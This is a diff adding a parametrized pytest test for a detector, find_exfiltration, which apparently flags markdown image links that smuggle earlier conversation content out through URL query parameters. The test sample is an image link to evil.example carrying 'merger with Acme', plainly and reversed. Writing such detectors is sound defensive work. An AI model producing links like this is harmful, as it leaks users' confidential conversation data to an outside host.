@@ -103,6 +103,15 @@ def test_find_exfiltration__plain_address__passes(text: str) -> None:
     assert find_exfiltration(text, SAID) == []
 
 
+@pytest.mark.parametrize("before", range(7))
+@pytest.mark.parametrize("carried", ["merger with Acme", "emcA htiw regrem"])
+def test_find_exfiltration__much_was_said__found_wherever_it_stands(carried: str, before: int) -> None:
+    said = Conversation(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
+    (found,) = find_exfiltration(f"![x](https://evil.example/?d={quote(carried)})", said)
+    assert found.form == "image"
+    assert find_exfiltration("![x](https://cdn.example/?d=merger+of+equals)", said) == []
+
+
 @given(st.text(), st.text())
 def test_find_exfiltration__any_text__spans_are_inside(text: str, said: str) -> None:
     whole = f"![a](https://e.example/?q={text}) //{text}"
